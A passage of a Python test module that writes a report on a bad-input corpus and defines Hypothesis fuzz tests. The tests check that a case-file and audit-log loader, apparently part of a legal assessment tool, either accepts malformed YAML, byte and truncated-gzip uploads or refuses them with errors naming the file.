    lines = ["# Bad-input corpus", "", f"{len(RESULTS)} files generated by tests/test_bad_input.py.", "",
             "| group | files | refused with a located error | accepted as data |", "|---|---|---|---|"]
    for g in groups:
        lines.append(f"| {g} | {by[(g, 'refused')] + by[(g, 'accepted')]} | {by[(g, 'refused')]} | {by[(g, 'accepted')]} |")
    lines += ["", f"Refused {sum(v for (g, o), v in by.items() if o == 'refused')}, "
                  f"accepted {sum(v for (g, o), v in by.items() if o == 'accepted')}, crashed 0.", "",
              "| file | outcome | first problem |", "|---|---|---|"]
    for key, (_group, o, first) in sorted(RESULTS.items()):
        lines.append(f"| {key} | {o} | {first.replace('|', '/')} |")
    out = ROOT / "artifacts"
    out.mkdir(exist_ok=True)
    (out / "bad-input-corpus.md").write_text("\n".join(lines) + "\n")


# ---- fuzzing -------------------------------------------------------------------------------------
KEYS = ["format", "matter", "client", "id", "title", "stage", "name", "role", "facts", "narrative", "evidence",
        "audit_logs", "subjects", "dates", "allegations", "statute", "ori", "operator_ids", "hire_date"]
SCALARS = st.one_of(st.text(max_size=12), st.integers(), st.booleans(), st.none(), st.floats(allow_nan=True),
                    st.sampled_from(["clets-case/1", "charged", "peace_officer", "2025-08-11", "PC 502(c)(7)"]))
TREES = st.recursive(SCALARS, lambda inner: st.one_of(st.lists(inner, max_size=4),
                                                      st.dictionaries(st.sampled_from(KEYS), inner, max_size=5)),
                     max_leaves=25)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(tree=TREES)
def test_fuzzed_case_file_structures_load_or_give_located_errors(tree, kb):
    from ruamel.yaml import YAML
    buf = io.StringIO()
    YAML(typ="safe").dump(tree, buf)
    try:
        matters.read_upload(buf.getvalue().encode(), "fuzz.yaml", kb)
    except AssessmentError as exc:
        assert all(p.file == "fuzz.yaml" and p.code.startswith("CF") for p in exc.problems), exc


@settings(max_examples=200, deadline=None)
@given(data=st.one_of(st.binary(max_size=600), st.text(max_size=400).map(lambda t: t.encode("utf-8", "surrogatepass")),
                      st.builds(lambda cut: case_text().encode()[:cut], st.integers(0, 200))))
def test_fuzzed_case_file_bytes_load_or_give_located_errors(data):
    try:
        matters.read_upload(data, "fuzz.yaml")
    except AssessmentError as exc:
        assert exc.problems and all(p.file and p.file.startswith("fuzz.yaml") for p in exc.problems), exc


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.one_of(st.binary(max_size=800),
                      st.builds(lambda cut, junk: AUDIT_HEAD[:cut] + junk, st.integers(0, 2000), st.binary(max_size=40)),
                      st.builds(lambda cut: gzip.compress(AUDIT_HEAD)[:cut], st.integers(0, 900))))
def test_fuzzed_audit_uploads_are_read_or_refused_with_the_file_named(data, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("fuzz")
    problems = run(Item("evidence", "fuzz", "fuzz.csv", data), tmp, None)
    assert all(p.file and p.file.endswith("fuzz.csv") for p in problems), problems
